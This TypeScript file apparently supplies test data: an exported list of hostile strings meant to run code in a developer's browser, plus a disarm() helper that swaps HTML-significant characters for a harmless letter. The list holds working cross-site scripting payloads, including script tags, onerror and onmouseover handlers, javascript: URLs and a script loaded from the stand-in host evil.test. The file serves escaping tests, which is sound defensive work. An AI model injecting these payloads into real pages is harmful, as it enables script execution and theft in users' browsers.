/** Texts with which an attacker may try to run code in a developer's browser. */
export const hostileTexts: readonly string[] = [
  `"'><script>alert(1)</script>`,
  '</script><script src=//evil.test></script>',
  '</title></style></textarea></pre></svg></template><h1 id=content>',
  `{{token}} {{{token}}} {{> profiler/layout}} \${alert(1)}`,
  'javascript:alert(1)',
  ' JaVa\tScript:alert(1)//',
  'data:text/html,<script>alert(1)</script>',
  '<!--',
  '--> <img src=x onerror=alert(1)>',
  '--!><b>',
  '<![CDATA[ ]]> <?xml?> <!doctype svg>',
  '\u2028\u2029',
  '&lt;script&gt; &#60;b&#62; &quot &#x3c &amp',
  '<b '.repeat(100),
  '\u202e\u2066<bdo dir=rtl>\u200f',
  'a\0<b\0>\0',
  '=',
  '`alert(1)` ` onclick=alert(1) x=`',
  `" onmouseover="alert(1)" autofocus onfocus='alert(1)' style="color:red`,
  "' onmouseover='alert(1)",
  '//evil.test/%2e%2e/?#"',
  '\\\\evil.test\\"',
  '<svg/onload=alert(1)//',
  '<a href=javascript:alert(1) target=_blank formaction=//evil.test>',
  '\ud800<i>',
  '\r\n\r\n<p>',
]

const special = /[<>"'`&\0\r\n\t\u200f\u2028\u2029\u202e\u2066\ud800]/g

/** A text of the same length in which nothing means anything in HTML. */
export function disarm(hostile: string, letter = 'x'): string {
  return hostile.replace(special, letter)
}
